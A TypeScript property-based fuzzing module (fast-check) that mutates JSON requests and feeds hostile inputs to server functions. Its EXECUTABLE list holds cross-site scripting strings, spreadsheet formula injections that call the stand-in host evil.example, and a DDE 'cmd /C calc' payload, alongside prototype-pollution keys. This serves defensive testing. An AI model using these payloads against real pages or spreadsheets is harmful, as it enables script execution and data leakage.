// What is thrown at a function: valid requests with something wrong in them, and things that are no request at all.
import fc from 'fast-check';

/** What a page can send: JSON. */
export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** In every text that could become a formula or markup, to be found again wherever it ends up. */
export const MARK = 'pwned';

export const EXECUTABLE = [
  `<img src=x onerror=window.__${MARK}=1>`,
  `"><script>window.__${MARK}=1</script>`,
  `javascript:window.__${MARK}=1`,
  `=HYPERLINK("https://evil.example/${MARK}","${MARK}")`,
  `=IMPORTXML("https://evil.example/${MARK}","//a")`,
  `+cmd|' /C calc'!${MARK}`,
  `@SUM(1+1)*${MARK}`,
  `-1+1+${MARK}`,
  `\t=1+1&"${MARK}"`,
  `'=1+1&"${MARK}"`,
] as const;

const TEXTS = [
  ...EXECUTABLE,
  '',
  ' ',
  '\u0000',
  'ก\u0000ข',
  '\ud800',
  '\udc00ก',
  '\u202e๑๒๓\u202c',
  '\u200f12',
  '\ufeff7',
  '๑๒',
  '๙๙๙๙๙๙๙๙๙๙',
  '1e21',
  'NaN',
  'Infinity',
  '-0',
  '0x10',
  '1,2,3',
  '๓๑/๒/๒๕๖๔',
  '2021-02-31',
  '2564-09-30',
  '30 ก.ย. 64',
  'a'.repeat(64),
  'b'.repeat(32),
  '__proto__',
  'constructor',
  'ก'.repeat(2001),
  'x'.repeat(60_000),
  '\n'.repeat(5000),
  '\t'.repeat(5000),
  'https://evil.example/',
  'https://a\u202eb@evil.example/',
] as const;

/** Codes of districts, provinces, areas and years, near and far. */
const NUMBERS = [
  0,
  -0,
  -1,
  0.5,
  1,
  8,
  9,
  53,
  54,
  99,
  999,
  2563,
  2564,
  2565,
  5301,
  5302,
  5303,
  5305,
  5308,
  5309,
  5399,
  5401,
  9999,
  10_000,
  2 ** 31,
  2 ** 53,
  1e21,
  1e-7,
  Number.MAX_VALUE,
] as const;

const KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'toJSON',
  'then',
  'length',
] as const;
const FIELDS = ['row', 'column', 'by', 'user', 'email', 'ok', 'code', 'kind', 'value'] as const;

const text = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...TEXTS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
);
const number = fc.oneof(fc.constantFrom(...NUMBERS), fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }));
const key = fc.oneof(fc.constantFrom(...KEYS, ...FIELDS), fc.string({ maxLength: 12 }));

const leaf: fc.Arbitrary<Json> = fc.oneof(text, number, fc.boolean(), fc.constant(null));
const tree: fc.Arbitrary<Json> = fc.oneof(
  { weight: 4, arbitrary: leaf },
  { weight: 1, arbitrary: fc.array(leaf, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.array(fc.tuple(key, leaf), { maxLength: 4 }).map((pairs) => objectOf(pairs)) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((value) => asJson(value)) },
  { weight: 1, arbitrary: fc.integer({ min: 2, max: 300 }).map(nested) },
);

/** `toString` and `__proto__` become names of its own, as JSON.parse makes them. */
function objectOf(pairs: readonly (readonly [string, Json])[]): Json {
  return Object.fromEntries(pairs);
}

function asJson(value: unknown): Json {
  return JSON.parse(JSON.stringify(value));
}

function nested(depth: number): Json {
  let value: Json = 1;
  for (let at = 0; at < depth; at++) value = at % 2 === 0 ? [value] : objectOf([['payload', value]]);
  return value;
}

/** `kin` stays of the kind that it was, so that the schema lets it through to the rules. */
type What = 'kin' | 'replace' | 'remove' | 'add' | 'repeat' | 'lead' | 'shift' | 'swap';
type Change = { at: number; what: What; key: string; value: Json; text: string; number: number };

const changeBy = (...whats: What[]): fc.Arbitrary<Change> =>
  fc.record<Change>({ at: fc.nat(10_000), what: fc.constantFrom(...whats), key, value: tree, text, number });

const changes: fc.Arbitrary<Change[]> = fc.oneof(
  { weight: 4, arbitrary: fc.array(changeBy('kin', 'kin', 'swap', 'shift'), { minLength: 1, maxLength: 2 }) },
  {
    weight: 3,
    arbitrary: fc.array(changeBy('replace', 'remove', 'add', 'repeat', 'lead', 'shift', 'swap'), {
      minLength: 1,
      maxLength: 3,
    }),
  },
  { weight: 1, arbitrary: fc.constant<Change[]>([]) },
);

/** One of the requests with up to three changes somewhere in it; now and then as it is. */
function mutated(requests: readonly Json[]): fc.Arbitrary<Json> {
  return fc.tuple(fc.constantFrom(...requests), changes).map(([request, made]) => made.reduce(changed, request));
}

/** The arguments of one call. `own` are requests that the function is made for, `others` those of all functions. */
export function argumentsFor(own: readonly Json[], others: readonly Json[]): fc.Arbitrary<Json[]> {
  const request = fc.oneof(
    { weight: 12, arbitrary: mutated(own.length > 0 ? own : others) },
    { weight: 1, arbitrary: mutated(others) },
    { weight: 2, arbitrary: tree },
    { weight: 1, arbitrary: mutated(others).map((value) => JSON.stringify(value)) },
  );
  return fc.oneof(
    { weight: 14, arbitrary: request.map((value) => [value]) },
    { weight: 1, arbitrary: fc.array(tree, { maxLength: 6 }) },
    { weight: 1, arbitrary: fc.tuple(request, tree, tree) },
  );
}

/** The values inside a request, itself first, each with the way to it. */
function placesIn(value: Json, path: readonly (string | number)[] = []): (readonly (string | number)[])[] {
  if (typeof value !== 'object' || value === null) return [path];
  return [path, ...Object.entries(value).flatMap(([name, inner]) => placesIn(inner, [...path, name]))];
}

function changed(request: Json, { at, what, key: name, value, text: other, number: count }: Change): Json {
  const places = placesIn(request);
  const place = places[at % places.length] ?? [];
  const otherPlace = places[(at * 7 + 3) % places.length] ?? [];
  return withAt(request, place, (held) => {
    switch (what) {
      case 'kin':
        if (typeof held === 'string') return other;
        if (typeof held === 'number') return count;
        return typeof held === 'boolean' ? !held : held;
      case 'replace':
        return value;
      case 'remove':
        return undefined;
      case 'add':
        if (Array.isArray(held)) return [...held, value];
        return isObject(held) ? objectOf([...Object.entries(held), [name, value]]) : [held];
      case 'repeat':
        if (Array.isArray(held)) return [...held, ...held];
        return typeof held === 'string' ? held.repeat(at % 400) : [held, held];
      case 'lead':
        return typeof held === 'string' ? `${typeof value === 'string' ? value : '='}${held}` : JSON.stringify(held);
      case 'shift':
        return typeof held === 'number' ? held + ((at % 5) - 2) : value;
      case 'swap':
        return valueAt(request, otherPlace);
    }
  });
}

function isObject(value: Json): value is { [key: string]: Json } {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

function valueAt(value: Json, path: readonly (string | number)[]): Json {
  const [first, ...rest] = path;
  if (first === undefined || typeof value !== 'object' || value === null) return value;
  const inner = new Map(Object.entries(value)).get(String(first));
  return valueAt(inner ?? null, rest);
}

/** A copy in which one value is another; undefined leaves it out. */
function withAt(value: Json, path: readonly (string | number)[], act: (held: Json) => Json | undefined): Json {
  const [first, ...rest] = path;
  if (first === undefined) return act(value) ?? null;
  if (typeof value !== 'object' || value === null) return value;
  const entries = Object.entries(value).flatMap(([name, inner]): [string, Json][] => {
    if (name !== String(first)) return [[name, inner]];
    if (rest.length > 0) return [[name, withAt(inner, rest, act)]];
    const next = act(inner);
    return next === undefined ? [] : [[name, next]];
  });
  return Array.isArray(value) ? entries.map(([, inner]) => inner) : objectOf(entries);
}
